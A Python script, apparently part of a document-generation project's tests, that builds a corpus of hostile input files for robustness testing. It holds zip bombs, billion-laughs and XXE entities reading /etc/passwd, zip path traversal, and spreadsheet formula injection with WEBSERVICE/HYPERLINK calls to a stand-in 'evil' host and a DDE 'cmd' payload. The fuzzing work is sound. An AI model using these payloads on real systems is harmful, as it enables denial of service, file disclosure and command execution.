"""A corpus of hostile input files for docgen's inbox, to drop into a running ``docgen watch``.

Usage: ``python tools/hostile_corpus.py DIR [--outside DIR]`` writes every attack into DIR (an inbox) and
prints one line per attack: its file name and what it tries. Special files (symlinks, hard links, FIFOs, a
folder named like a file) point into ``--outside`` (default: a fresh temporary folder), never at real system
files. The cases are the ones of RELIABILITY.md 12–20 and 35–40 and the attacks found beyond them.
"""
from __future__ import annotations

import argparse
import io
import json
import os
import struct
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Callable

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
from test_hostile import (CONTENT_TYPES, HEADER, LAUGHS, SHARED_RELS,  # noqa: E402 - after the path
                          WORKBOOK_RELS as SHEET_RELS, XXE, inline, raw_xlsx)

WORKBOOK_RELS = SHEET_RELS.replace("</Relationships>", SHARED_RELS)
SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
XXE_PARAM = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'


def xlsx(rows: str, after_data: str = "", doctype: str = "", shared: str | None = None, dimension: str = "") -> bytes:
    """A minimal xlsx written byte by byte (sheet «Пары», tests/test_hostile.py's ``raw_xlsx``); ``doctype``
    before the sheet's root element, ``shared`` as its sharedStrings part."""
    with zipfile.ZipFile(raw_xlsx(io.BytesIO(), rows, after_data, dimension)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(b"?>", b"?>" + doctype.encode(), 1)
    if shared is not None:
        members["xl/_rels/workbook.xml.rels"] = WORKBOOK_RELS.encode()
        members["xl/sharedStrings.xml"] = shared.encode()
    return zip_of(members)


def ods(rows: str, doctype: str = "") -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    content = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content xmlns:office="{office}" '
               f'xmlns:table="{table}" xmlns:text="{text}" office:version="1.2"><office:body><office:spreadsheet>'
               f'<table:table table:name="Пары">{rows}</table:table></office:spreadsheet></office:body>'
               "</office:document-content>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ods_cell(text: str, attrs: str = "") -> str:
    return f'<table:table-cell office:value-type="string" {attrs}><text:p>{text}</text:p></table:table-cell>'


ODS_HEADER = f"<table:table-row>{ods_cell('Наставник')}{ods_cell('Наставляемый')}</table:table-row>"


def zip_bomb(member: str, size: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open(member, "w", force_zip64=True) as stream:
            chunk = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                stream.write(chunk)
    return buffer.getvalue()


def lying_zip() -> bytes:
    """A member whose header claims 100 bytes while its deflate stream holds 300 MB."""
    import zlib

    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(payload.compress(b"<" * (1 << 20)) for _ in range(300)) + payload.flush()
    good = xlsx(HEADER)
    buffer = io.BytesIO(good)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("xl/sharedStrings.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, b"x" * 100)
    raw = bytearray(buffer.getvalue())
    # not a perfect forgery; the reader must refuse it either way
    return bytes(raw) + data[:1000]


def encrypted_ole() -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 4088


PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 17


def json_text(value) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def example(name: str) -> dict:
    root = Path(__file__).resolve().parent.parent / "examples"
    return json.loads((root / name).read_text(encoding="utf-8"))


def order(**changes) -> dict:
    data = example("pair_order.json")
    data.update(changes)
    return data


def dup_keys() -> bytes:
    text = json.dumps(example("pair_order.json"), ensure_ascii=False)
    return ('{"type": "reward_order", ' + text[1:]).encode("utf-8")


def mentor_named(name: str) -> bytes:
    data = example("pair_order.json")
    data["pairs"][0]["mentor"]["name"] = name
    return json_text(data)


def csv_cells(*cells: str) -> bytes:
    return ("Наставник;Наставляемый;Форма наставничества\r\n" + ";".join(cells) + "\r\n").encode("utf-8")


ATTACKS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # --- JSON -----------------------------------------------------------------------------------
    "empty.json": ("zero bytes", lambda: b""),
    "one byte.json": ("one byte", lambda: b"{"),
    "space.json": ("one space", lambda: b" "),
    "utf16 bom.json": ("UTF-16 LE with BOM", lambda: json.dumps(order(), ensure_ascii=False).encode("utf-16")),
    "utf16 nobom.json": ("UTF-16 LE without BOM", lambda: json.dumps(order(), ensure_ascii=False).encode("utf-16-le")),
    "utf32 bom.json": ("UTF-32 with BOM", lambda: json.dumps(order(), ensure_ascii=False).encode("utf-32")),
    "utf32 nobom.json": ("UTF-32 BE without BOM", lambda: json.dumps(order(), ensure_ascii=False).encode("utf-32-be")),
    "dup keys.json": ("duplicate «type» key, the first one hidden", dup_keys),
    "nan.json": ("bare NaN", lambda: b'{"type": "reward_order", "rewards": [{"amount": NaN}]}'),
    "infinity exp.json": ("1e999 becomes infinity", lambda: json_text(order()).replace(b'"type"', b'"x": 1e999, "type"')),
    "million digits.json": ("an integer of 10^6 digits", lambda: b'{"type": "pair_order", "number": ' + b"9" * 1_000_000 + b"}"),
    "million digit float.json": ("a float of 10^6 digits", lambda: b'{"type": "pair_order", "x": 0.' + b"1" * 1_000_000 + b"}"),
    "lone surrogate.json": ("a lone surrogate escape", lambda: mentor_named("\\ud800").replace(b"\\\\ud800", b"\\ud800")),
    "nul escape.json": ("\\u0000 in a name", lambda: mentor_named("Иванов\u0000Иван Иванович")),
    "raw nul.json": ("raw NUL bytes in the file", lambda: json_text(order()) + b"\0\0"),
    "rtl in name.json": ("RTL override in a person's name", lambda: mentor_named("Иванов\u202eвонавИ Иван")),
    "zero width.json": ("zero-width characters in a name", lambda: mentor_named("Ива\u200bнов\u200d Иван Иванович")),
    "deep.json": ("nesting 100 000 deep", lambda: b"[" * 100_000 + b"]" * 100_000),
    "huge string.json": ("a 50 MB string", lambda: b'{"type": "pair_order", "title": "' + b"a" * 50_000_000 + b'"}'),
    "not object.json": ("a bare number", lambda: b"42"),
    "array of junk.json": ("an array of nulls", lambda: b"[null, 1, \"x\"]"),
    "template injection.json": ("Jinja in a title", lambda: json_text(order(title="{{ config }}{% for x in range(10**9) %}"))),
    "bidi name field.json": ("a person's name of only format characters", lambda: mentor_named("\u202e\u200b\u2066")),
    "path in text.json": ("path traversal in a title", lambda: json_text(order(title="../../../../etc/passwd"))),
    # --- XLSX -------------------------------------------------------------------------------------
    "Пары bomb.xlsx": ("zip bomb: 1 GB of zeros in one member", lambda: zip_bomb("xl/worksheets/sheet1.xml", 1 << 30)),
    "Пары laughs.xlsx": ("billion laughs in the sheet XML", lambda: xlsx(HEADER.replace("Наставник", "&lol9;"), doctype=LAUGHS)),
    "Пары laughs shared.xlsx": ("billion laughs in sharedStrings", lambda: xlsx(
        HEADER, shared=f'{SHEET_HEAD}{LAUGHS}<sst {SHEET_NS}><si><t>&lol9;</t></si></sst>')),
    "Пары xxe.xlsx": ("external entity /etc/passwd in the sheet", lambda: xlsx(
        HEADER + f'<row r="2">{inline("A2", "&xxe;")}{inline("B2", "Петров Пётр Петрович")}</row>', doctype=XXE)),
    "Пары xxe shared.xlsx": ("external entity in sharedStrings", lambda: xlsx(
        HEADER + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
        shared=f'{SHEET_HEAD}{XXE}<sst {SHEET_NS}><si><t>&xxe;</t></si></sst>')),
    "Пары xxe param.xlsx": ("parameter entity", lambda: xlsx(HEADER, doctype=XXE_PARAM)),
    "Пары dimension.xlsx": ("dimension A1:XFD1048576", lambda: xlsx(HEADER, dimension='<dimension ref="A1:XFD1048576"/>')),
    "Пары styled rows.xlsx": ("10^6 empty styled rows", lambda: xlsx(HEADER + "".join(
        f'<row r="{r}" s="1" customFormat="1"/>' for r in range(2, 1_000_002)))),
    "Пары styled cells.xlsx": ("10^5 empty styled cells", lambda: xlsx(HEADER + "".join(
        f'<row r="{r}"><c r="A{r}" s="1"/></row>' for r in range(2, 100_002)))),
    "Пары merge all.xlsx": ("one merge over the whole sheet", lambda: xlsx(
        HEADER, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
    "Пары merge down.xlsx": ("a merge down a million rows", lambda: xlsx(
        HEADER + f'<row r="2">{inline("A2", "Иванов Иван Иванович")}{inline("B2", "Петров Пётр Петрович")}</row>',
        '<mergeCells count="1"><mergeCell ref="A2:A1048576"/></mergeCells>')),
    "Пары formulas.xlsx": ("HYPERLINK, WEBSERVICE, DDE formulas", lambda: xlsx(
        HEADER + '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil/?"&amp;B2,"Иванов Иван Иванович")</f>'
        '<v>Иванов Иван Иванович</v></c><c r="B2" t="str"><f>WEBSERVICE("http://evil/")</f><v>=cmd|\' /C calc\'!A0</v></c></row>')),
    "Пары formula no value.xlsx": ("a formula never computed", lambda: xlsx(
        HEADER + '<row r="2"><c r="A2"><f>1+1</f></c><c r="B2" t="inlineStr"><is><t>Петров</t></is></c></row>')),
    "Пары bad ref.xlsx": ("cell reference of junk", lambda: xlsx(HEADER + '<row r="2"><c r="ZZZZZZZZZZ99999999999"><v>1</v></c></row>')),
    "Пары negative row.xlsx": ("row r=\"-5\" and r=\"0\"", lambda: xlsx(
        HEADER + '<row r="0"><c r="A0"><v>1</v></c></row><row r="-5"><c><v>1</v></c></row>')),
    "Пары huge row number.xlsx": ("row r=99999999999999999999", lambda: xlsx(HEADER + '<row r="99999999999999999999"><c><v>1</v></c></row>')),
    "Пары shared index.xlsx": ("shared string index out of range", lambda: xlsx(
        HEADER + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>', shared=f"{SHEET_HEAD}<sst {SHEET_NS}></sst>")),
    "Пары png.xlsx": ("a PNG named .xlsx", lambda: PNG),
    "Пары junk zip.xlsx": ("a zip of junk", lambda: zip_of({"junk.bin": os.urandom(1000)})),
    "Пары encrypted.xlsx": ("an OLE (encrypted) container", encrypted_ole),
    "Пары truncated.xlsx": ("an xlsx cut in half", lambda: xlsx(HEADER)[:300]),
    "Пары one byte.xlsx": ("one byte", lambda: b"P"),
    "Пары pk only.xlsx": ("just the zip signature", lambda: b"PK\x03\x04"),
    "Пары empty zip.xlsx": ("an empty zip", lambda: zip_of({})),
    "Пары lying zip.xlsx": ("a member with a lying header", lying_zip),
    "Пары traversal.xlsx": ("a zip member named ../../evil", lambda: zip_of({"../../evil.xml": b"x", **xlsx_members()})),
    "Пары rels outside.xlsx": ("a worksheet relationship pointing at /etc/passwd", lambda: xlsx_rels_outside()),
    "Пары many sheets.xlsm": ("an xlsm with a vbaProject", lambda: with_member(xlsx(HEADER), "xl/vbaProject.bin", b"\0" * 512)),
    # --- ODS --------------------------------------------------------------------------------------
    "Пары bomb.ods": ("zip bomb in content.xml", lambda: zip_bomb("content.xml", 1 << 30)),
    "Пары laughs.ods": ("billion laughs in content.xml", lambda: ods(ODS_HEADER.replace("Наставник", "&lol9;"), LAUGHS)),
    "Пары xxe.ods": ("external entity in content.xml", lambda: ods(
        ODS_HEADER + f"<table:table-row>{ods_cell('&xxe;')}{ods_cell('Петров Пётр')}</table:table-row>", XXE)),
    "Пары repeat cols.ods": ("a cell repeated 10^9 columns", lambda: ods(
        ODS_HEADER + '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>')),
    "Пары repeat rows filled.ods": ("a filled row repeated 10^6 times", lambda: ods(
        ODS_HEADER + f'<table:table-row table:number-rows-repeated="1000000">{ods_cell("Иванов")}{ods_cell("Петров")}</table:table-row>')),
    "Пары bad repeat.ods": ("number-rows-repeated=\"abc\"", lambda: ods(
        ODS_HEADER + '<table:table-row table:number-rows-repeated="abc"><table:table-cell/></table:table-row>')),
    "Пары negative span.ods": ("number-rows-spanned=\"-3\"", lambda: ods(
        ODS_HEADER + "<table:table-row>" + ods_cell("Иванов", 'table:number-rows-spanned="-3"') + "</table:table-row>")),
    "Пары huge span.ods": ("a merge spanning 10^12 rows", lambda: ods(
        ODS_HEADER + "<table:table-row>" + ods_cell("Иванов", 'table:number-rows-spanned="1000000000000"') + "</table:table-row>")),
    "Пары no content.ods": ("an ods without content.xml", lambda: zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})),
    "Пары junk.ods": ("a zip of junk named .ods", lambda: zip_of({"content.xml": b"\x00\xff" * 100})),
    # --- CSV --------------------------------------------------------------------------------------
    "Пары injection.csv": ("cells starting with = + - @", lambda: csv_cells("=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "@SUM(1)")),
    "Пары minus.csv": ("a name starting with -", lambda: csv_cells("-2+3", "Петров Пётр Петрович", "Учитель – учитель")),
    "Пары utf32.csv": ("UTF-32 CSV", lambda: "Наставник;Наставляемый\r\nИванов;Петров\r\n".encode("utf-32")),
    "Пары nul.csv": ("NUL in a CSV", lambda: b"\xd0\x9d;x\r\n\0\0\0\r\n"),
    "Пары long line.csv": ("a 30 MB line with no delimiter", lambda: b"a" * 30_000_000),
    "Пары many rows.csv": ("300 000 empty lines", lambda: "Наставник;Наставляемый\r\n".encode() + b";\r\n" * 300_000),
    "Пары quote.csv": ("an unclosed quote over 5 MB", lambda: "Наставник;Наставляемый\r\n\"".encode() + b"x" * 5_000_000),
    "Пары only bom.csv": ("only a UTF-8 BOM", lambda: b"\xef\xbb\xbf"),
    "Пары utf16 odd.csv": ("UTF-16 BOM with an odd byte count", lambda: b"\xff\xfe" + "Наставник".encode("utf-16-le") + b"\x00"),
    # --- other suffixes ---------------------------------------------------------------------------
    "Пары old.xls": ("an .xls (not declared)", encrypted_ole),
    "Пары.XLSX": ("an upper-case suffix of a PNG", lambda: PNG),
}


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_members(rows: str = HEADER) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx(rows))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    members = xlsx_members()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members[name] = content
    return zip_of(members)


def xlsx_rels_outside() -> bytes:
    members = xlsx_members()
    members["xl/_rels/workbook.xml.rels"] = WORKBOOK_RELS.replace("worksheets/sheet1.xml", "/etc/passwd").encode()
    return zip_of(members)


def special_files(inbox: Path, outside: Path) -> list[tuple[str, str]]:
    """Symlinks, hard links, FIFOs and folders; each points into ``outside``."""
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "secret.json"
    secret.write_bytes(json_text(order()))
    made = []
    (inbox / "symlink.json").symlink_to(secret)
    made.append(("symlink.json", "a symlink to a file outside"))
    (inbox / "symlink dir.json").symlink_to(outside)
    made.append(("symlink dir.json", "a symlink to a folder outside"))
    (inbox / "dangling.json").symlink_to(outside / "nowhere")
    made.append(("dangling.json", "a dangling symlink"))
    try:
        os.link(secret, inbox / "hardlink.json")
        made.append(("hardlink.json", "a hard link to a file outside"))
    except OSError:
        pass
    os.mkfifo(inbox / "fifo.json")
    made.append(("fifo.json", "a FIFO"))
    (inbox / "folder.json").mkdir()
    (inbox / "folder.json" / "inner.json").write_bytes(json_text(order()))
    made.append(("folder.json", "a folder named like a file"))
    (inbox / "Приказ й.json").write_bytes(json_text(order()))
    (inbox / "Приказ и\u0306.json").write_bytes(json_text(order()))
    made.append(("Приказ й.json / Приказ и\u0306.json", "names differing only by Unicode normalisation"))
    long_name = "Приказ " + "о" * 110 + ".json"
    (inbox / long_name).write_bytes(b"{")
    made.append((long_name[:20] + "…", "a 230-byte name"))
    (inbox / "..json").write_bytes(b"{")
    made.append(("..json", "a name starting with two dots"))
    return made


def write_corpus(inbox: Path, outside: Path) -> list[tuple[str, str]]:
    made = []
    for name, (what, build) in ATTACKS.items():
        (inbox / name).write_bytes(build())
        made.append((name, what))
    return made + special_files(inbox, outside)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("inbox", type=Path)
    parser.add_argument("--outside", type=Path, default=None)
    args = parser.parse_args()
    outside = args.outside or Path(tempfile.mkdtemp(prefix="docgen-outside-"))
    for name, what in write_corpus(args.inbox, outside):
        print(f"{name}\t{what}")


if __name__ == "__main__":
    main()
